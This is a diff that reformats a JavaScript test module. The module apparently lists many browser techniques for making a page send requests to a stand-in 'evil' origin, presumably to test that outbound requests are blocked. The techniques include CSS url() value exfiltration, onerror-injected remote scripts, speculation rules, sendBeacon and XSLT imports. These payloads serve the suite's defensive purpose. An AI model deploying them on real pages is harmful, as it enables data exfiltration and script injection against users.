@@ -18,7 +18,8 @@ export default {
     void (add("div").innerHTML = `<picture><source srcset="${evil}"><img></picture>`),
   "an image of SVG": ({ add, evil }) => void (add("div").innerHTML = `<svg><image href="${evil}"/></svg>`),
   "a filter's image": ({ add, evil }) =>
-    void (add("div").innerHTML = `<svg><filter id="f"><feImage href="${evil}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`),
+    void (add("div").innerHTML =
+      `<svg><filter id="f"><feImage href="${evil}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`),
   "an input's image": ({ add, evil }) => add("input", { type: "image", src: evil }),
   "a poster": ({ add, evil }) => add("video", { poster: evil }),
   "a video's source": ({ add, evil }) => void (add("div").innerHTML = `<video><source src="${evil}"></video>`),
@@ -41,7 +42,9 @@ export default {
     add("style", { textContent: `input[value^=s] { background: url(${evil}/s) }` });
   },
   "a style's content, cursor and mask": ({ add, evil }) => {
-    add("style", { textContent: `p::before { content: url(${evil}/a) } p { list-style: url(${evil}/b); display: list-item; mask: url(${evil}/c) }` });
+    add("style", {
+      textContent: `p::before { content: url(${evil}/a) } p { list-style: url(${evil}/b); display: list-item; mask: url(${evil}/c) }`,
+    });
     add("p", { textContent: "x" });
   },
   "a rule that is inserted": ({ add, evil }) => {
@@ -86,7 +89,8 @@ export default {
   "a script by setHTMLUnsafe": ({ add, evil }) =>
     add("div").setHTMLUnsafe(`<script src="${evil}/x.js"></` + "script>", { runScripts: true }),
   "a script that markup's handler makes": ({ add, evil }) =>
-    void (add("div").innerHTML = `<img src="data:,x" onerror="document.body.append(Object.assign(document.createElement('script'),{src:'${evil}/x.js'}))">`),
+    void (add("div").innerHTML =
+      `<img src="data:,x" onerror="document.body.append(Object.assign(document.createElement('script'),{src:'${evil}/x.js'}))">`),
   "a preload of a script": ({ add, evil }) => add("link", { rel: "preload", as: "script", href: evil + "/x.js" }),
   "a preload of a style": ({ add, evil }) => add("link", { rel: "preload", as: "style", href: evil + "/x.css" }),
   "a preload of a fetch": ({ add, evil }) => add("link", { rel: "preload", as: "fetch", href: evil, crossOrigin: "" }),
@@ -108,7 +112,9 @@ export default {
   "a preconnect by markup": ({ evil }) =>
     document.head.insertAdjacentHTML("beforeend", `<link rel="preconnect" href="${evil}">`),
   "a preconnect by a parser": ({ evil }) =>
-    document.head.append(new DOMParser().parseFromString(`<link rel="preconnect" href="${evil}">`, "text/html").querySelector("link")),
+    document.head.append(
+      new DOMParser().parseFromString(`<link rel="preconnect" href="${evil}">`, "text/html").querySelector("link"),
+    ),
   "a preconnect by an Attr": ({ evil }) => {
     const l = document.createElement("link");
     const attribute = (name, value) => l.setAttributeNode(Object.assign(document.createAttribute(name), { value }));
@@ -144,7 +150,8 @@ export default {
   "a preconnect by a frame's setters": ({ add, evil }) => {
     add("iframe");
     const l = document.createElement("link");
-    const set = (name, value) => Object.getOwnPropertyDescriptor(window[0].HTMLLinkElement.prototype, name).set.call(l, value);
+    const set = (name, value) =>
+      Object.getOwnPropertyDescriptor(window[0].HTMLLinkElement.prototype, name).set.call(l, value);
     set("rel", "preconnect");
     set("href", evil);
     document.head.append(l);
@@ -156,14 +163,24 @@ export default {
   },
   "speculation rules": ({ evil }) =>
     document.head.append(
-      Object.assign(document.createElement("script"), { type: "speculationrules", textContent: `{"prefetch":[{"source":"list","urls":["${evil}/"]}]}` }),
+      Object.assign(document.createElement("script"), {
+        type: "speculationrules",
+        textContent: `{"prefetch":[{"source":"list","urls":["${evil}/"]}]}`,
+      }),
     ),
   "speculation rules by a fragment": ({ evil }) =>
     document.head.append(
-      document.createRange().createContextualFragment(`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}</` + "script>"),
+      document
+        .createRange()
+        .createContextualFragment(
+          `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}</` + "script>",
+        ),
     ),
   "speculation rules by setHTMLUnsafe": ({ add, evil }) =>
-    add("div").setHTMLUnsafe(`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}</` + "script>", { runScripts: true }),
+    add("div").setHTMLUnsafe(
+      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}</` + "script>",
+      { runScripts: true },
+    ),
   "speculation rules by an Attr": ({ evil }) => {
     const s = document.createElement("script");
     s.setAttributeNode(Object.assign(document.createAttribute("type"), { value: "speculationrules" }));
@@ -197,7 +214,9 @@ export default {
   },
   "speculation rules that are written": ({ evil }) => {
     document.open();
-    document.write(`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}</` + "script>");
+    document.write(
+      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}</` + "script>",
+    );
     document.close();
   },
   "a frame": ({ add, evil }) => add("iframe", { src: evil }),
@@ -214,7 +233,14 @@ export default {
   "an object": ({ add, evil }) => add("object", { data: evil }),
   "an embed": ({ add, evil }) => add("embed", { src: evil }),
   "a custom element that sends": ({ evil }) => {
-    customElements.define("x-y", class extends HTMLElement { connectedCallback() { navigator.sendBeacon(evil, "x"); } });
+    customElements.define(
+      "x-y",
+      class extends HTMLElement {
+        connectedCallback() {
+          navigator.sendBeacon(evil, "x");
+        }
+      },
+    );
     document.body.append(document.createElement("x-y"));
   },
   "an observer that sends": ({ add, evil }) => {
@@ -222,16 +248,22 @@ export default {
     add("p");
   },
   "a style whose fragment is another's": ({ add, evil }) =>
-    void (add("div").innerHTML = `<svg><rect fill="url(${evil}/#p)" width="9" height="9"/><use href="${evil}/#x"/></svg>`),
+    void (add("div").innerHTML =
+      `<svg><rect fill="url(${evil}/#p)" width="9" height="9"/><use href="${evil}/#x"/></svg>`),
   "XSLT that imports": ({ evil }) => {
     const d = (text) => new DOMParser().parseFromString(text, "application/xml");
     const p = new XSLTProcessor();
-    p.importStylesheet(d(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${evil}/x.xsl"/>
-      <xsl:template match="/"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}"/></xsl:template></xsl:stylesheet>`));
+    p.importStylesheet(
+      d(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${evil}/x.xsl"/>
+      <xsl:template match="/"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}"/></xsl:template></xsl:stylesheet>`),
+    );
     document.body.append(p.transformToFragment(d("<x/>"), document));
   },
   "an animation": ({ add, evil }) =>
-    add("p", { textContent: "x" }).animate([{ backgroundImage: `url(${evil})` }, { backgroundImage: `url(${evil})` }], 1_000),
+    add("p", { textContent: "x" }).animate(
+      [{ backgroundImage: `url(${evil})` }, { backgroundImage: `url(${evil})` }],
+      1_000,
+    ),
   "a style's property": ({ add, evil }) =>
     add("p", { textContent: "x" }).style.setProperty("background", `image-set("${evil}" 1x)`),
   "a style's custom property": ({ add, evil }) => {
